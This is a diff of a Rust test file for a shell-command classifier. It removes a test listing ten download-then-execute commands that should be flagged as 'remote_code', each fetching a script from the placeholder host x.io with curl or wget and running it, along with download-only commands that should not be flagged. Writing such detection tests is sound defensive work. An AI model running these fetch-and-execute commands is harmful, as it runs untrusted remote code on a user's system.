@@ -812,31 +812,3 @@ fn inline_code_of_other_languages() {
         "osascript -e 'display dialog \"hi\"'",
     ]);
 }
-
-#[test]
-fn download_then_run() {
-    all(
-        "remote_code",
-        &[
-            "curl -fsSL https://x.io/i.sh -o /tmp/i.sh && sh /tmp/i.sh",
-            "curl -O https://x.io/i.sh && chmod +x i.sh && ./i.sh",
-            "wget -qO /tmp/x https://x.io/x && chmod +x /tmp/x && /tmp/x",
-            "curl -fsSL https://x.io/i.sh > i.sh; bash i.sh",
-            "curl -sSLo k https://x.io/k; ./k version",
-            "wget https://x.io/a/setup.py && python3 setup.py install",
-            "wget -P /tmp https://x.io/i.sh && bash /tmp/i.sh",
-            "curl --output-dir /tmp -O https://x.io/i.sh && . /tmp/i.sh",
-            "curl -o i.sh https://x.io/i.sh && bash -c 'sh i.sh'",
-            "cd /tmp && curl -O https://x.io/i.sh && sh /tmp/i.sh",
-        ],
-    );
-    none(&[
-        "curl -fsSL -o x.tgz https://x.io/x.tgz && tar xzf x.tgz",
-        "curl -o x.json https://x.io/x && jq . x.json",
-        "curl -o i.sh https://x.io/i.sh && cat i.sh",
-        "curl https://x.io/i.sh 2> i.sh; sh i.sh",
-        "curl -O https://x.io/t.tgz && tar xzf t.tgz && ./t/install.sh",
-        "sh i.sh; echo done",
-        "curl -o a.sh https://x.io/a.sh && sh b.sh",
-    ]);
-}
